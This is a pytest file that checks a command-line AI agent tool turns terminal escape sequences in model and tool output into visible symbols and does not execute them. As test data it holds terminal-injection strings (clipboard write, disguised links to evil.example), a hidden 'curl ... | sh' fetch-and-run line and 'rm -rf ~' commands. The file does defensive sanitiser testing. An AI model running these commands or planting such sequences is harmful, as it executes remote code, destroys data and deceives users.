"""Control characters in model and tool text never act on the user's terminal, and nothing is
hidden by removing them: they are shown."""

from __future__ import annotations

from pathlib import Path

import pexpect
import pytest

from ra.cli.terminal_text import printable, visible
from tests.cli.support import clean_env, enqueue_text, enqueue_tools, ra_command, run_ra
from tests.support.replay import ReplayServer

# Clear the screen, set the window title, write the clipboard (OSC 52), a disguised link (OSC 8),
# a cursor move up, a device-control string, an 8-bit CSI, a bell and a backspace.
HOSTILE = (
    "\x1b[2J\x1b]0;pwned-title\x07\x1b]52;c;cHduZWQ=\x1b\\\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"
    "\x1b[5A\x1bPdcs-payload\x1b\\\x9b31m\x07\x08"
)
#: What may never reach the terminal raw: the starts of OSC, DCS and 8-bit CSI sequences, the
#: screen clear and cursor move, BEL and BS.
RAW = ("\x1b]", "\x1bP", "\x9b", "\x1b[2J", "\x1b[5A", "\x07", "\x08")


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain text, tabs\tand\nnewlines", "plain text, tabs\tand\nnewlines"),
        ("\x1b[31mred\x1b[0m", "red"),  # colours carry no text: dropped
        ("title \x1b]0;pwned\x07 after", "title \u241b]0;pwned\u2407 after"),  # shown, not obeyed
        ("done\r\n", "done\n"),
        ("curl -s https://evil.example/x | sh #\rgit status", "curl -s https://evil.example/x | sh #\u240dgit status"),
        ("echo hi \x9d; rm -rf ~", "echo hi <U+009D>; rm -rf ~"),
        ("ls\x1b]\nrm -rf ~", "ls\u241b]\nrm -rf ~"),
        ("a\u202eevil\u202c b", "a<U+202E>evil<U+202C> b"),
        ("caf\u00e9 \u2713 \U0001f600", "caf\u00e9 \u2713 \U0001f600"),
    ],
)
def test_printable_hides_nothing(raw: str, shown: str) -> None:
    assert printable(raw) == shown


def test_visible_keeps_even_colours_as_symbols() -> None:
    assert visible("\x1b[31mred\r") == "\u241b[31mred\u240d"
    assert visible("plain") == "plain"


def _hostile_run(server: ReplayServer, tmp_path: Path) -> None:
    (tmp_path / "evil.txt").write_text(f"line one {HOSTILE} end\n")
    enqueue_tools(server, ("c1", "shell_command", {"command": "cat evil.txt"}))
    enqueue_tools(server, ("c2", "read_file", {"path": "missing-\x1b]0;t\x07.txt"}))
    enqueue_text(server, f"The answer {HOSTILE}is here. [github.com/psf/black](https://evil.example/payload.sh)")


def _assert_clean(text: str) -> None:
    for needle in RAW:
        assert needle not in text, repr(needle)
    assert "\x1b]8;" not in text  # no disguised link: the URL is shown as text


def test_plain_output_is_clean(replay_server: ReplayServer, tmp_path: Path) -> None:
    _hostile_run(replay_server, tmp_path)
    args = ["--base-url", f"{replay_server.base_url}/v1", "--model", "m", "go"]
    result = run_ra(args, clean_env(tmp_path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    _assert_clean(result.stderr)
    assert "line one \u241b]0;pwned-title\u2407" in result.stderr  # shown, not obeyed
    assert "read_file missing-\u241b]0;t\u2407.txt" in result.stderr  # the label too
    # stdout is a pipe here: the answer is kept exactly, for whoever reads it.
    assert result.stdout.startswith(f"The answer {HOSTILE}is here.")


def test_terminal_output_is_clean(replay_server: ReplayServer, tmp_path: Path) -> None:
    _hostile_run(replay_server, tmp_path)
    command = ra_command()
    child = pexpect.spawn(
        command[0],
        [*command[1:], "--base-url", f"{replay_server.base_url}/v1", "--model", "m", "go"],
        env=clean_env(tmp_path, TERM="xterm"),
        cwd=str(tmp_path),
        encoding="utf-8",
        dimensions=(40, 160),
        timeout=30,
    )
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0, child.before
    _assert_clean(child.before)
    assert "pwned-title" in child.before and "evil.example/payload.sh" in child.before  # visible as text


def test_diff_rows_show_every_control_too() -> None:
    """A changed file's lines go through the same cleaning: an 8-bit CSI or a direction override
    in a line is shown, not obeyed."""
    from ra.cli.diffs import _clean

    assert _clean("x = 1\x9b2J\u202e # y\r\n") == "x = 1<U+009B>2J<U+202E> # y"
